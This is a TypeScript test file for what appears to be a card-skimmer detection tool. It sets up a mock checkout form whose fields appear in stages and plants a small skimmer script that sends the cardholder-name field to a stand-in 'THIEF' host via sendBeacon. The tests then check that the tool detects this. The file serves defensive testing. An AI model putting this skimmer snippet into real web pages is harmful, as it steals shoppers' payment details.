import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { launchBrowser, type RunningBrowser } from '#session/index.ts'
import { type Watched, watchPage } from './watch-page.ts'

let browser: RunningBrowser
let watched: Watched
const body = `<form action="/pay" method="post">
<label>Card number <input id=card name=cardnumber autocomplete=cc-number></label>
<label id=hidden style="display:none">CVC <input id=cvc name=cvc autocomplete=cc-csc></label>
<label>Expiry <input id=exp name=exp autocomplete=cc-exp disabled></label>
<div id=more></div><label>Voucher <input name=voucher></label><button>Pay</button></form>`
const shop = `
const by = (id) => document.getElementById(id)
by('card').addEventListener('input', () => {
  if (by('card').value.replace(/\\D/g, '').length < 15) return
  by('hidden').style.display = ''
  by('exp').disabled = false
})
by('cvc').addEventListener('change', () => {
  by('more').innerHTML = '<label>Name on card <input id=holder name=nameoncard autocomplete=cc-name></label>'
  by('holder').addEventListener('change', () => {
    by('more').insertAdjacentHTML('beforeend', '<label>IBAN <input id=iban name=iban></label>')
    by('iban').addEventListener('change', () => {
      by('more').insertAdjacentHTML('beforeend', '<label>E-mail <input id=mail name=email type=email></label>')
    })
  })
})`
const skimmer = `document.addEventListener('focusin', function later(event) {
  if (event.target.id === 'holder') event.target.addEventListener('blur', function take() { navigator.sendBeacon('http://THIEF/n', this.value) })
})`

beforeAll(async () => {
  const launch = await launchBrowser({ env: process.env })
  if (!launch.ok) throw new Error(launch.detail)
  browser = launch.browser
  watched = await watchPage(browser, { body, shop, skimmer })
})
afterAll(() => browser?.close())

describe('fields that come, show or open because another was filled in', () => {
  const typed = () => watched.canary.typedInto.map(({ fieldId }) => watched.capture.fields.find(({ id }) => id === fieldId)?.domId)

  it('are typed into once each, in two more rounds at most', () => {
    expect(typed()).toEqual(['card', 'cvc', 'exp', 'holder', 'iban'])
    const mail = watched.capture.fields.find(({ domId }) => domId === 'mail')
    expect(watched.canary.notTyped).toEqual([{ frameId: mail?.frameId, fieldId: mail?.id, gap: { code: 'field-late', values: {} } }])
  })

  it('are watched like the others: what takes their value is found', () => {
    expect(watched.canary.sightings).toContainEqual(expect.objectContaining({ value: 'name', host: watched.thiefHost, where: 'body' }))
    const [thief] = watched.thieves
    const holder = watched.capture.fields.find(({ domId }) => domId === 'holder')?.id
    expect(watched.behaviours).toContainEqual(expect.objectContaining({ kind: 'reads-field', scriptId: thief, target: holder }))
  })

  it('leave no issue behind once they were typed into', () => {
    expect(watched.capture.outcome.issues).toEqual([])
  })

  it('are not submitted', () => {
    expect(watched.atShop.filter((line) => line.startsWith('POST'))).toEqual([])
  })
})
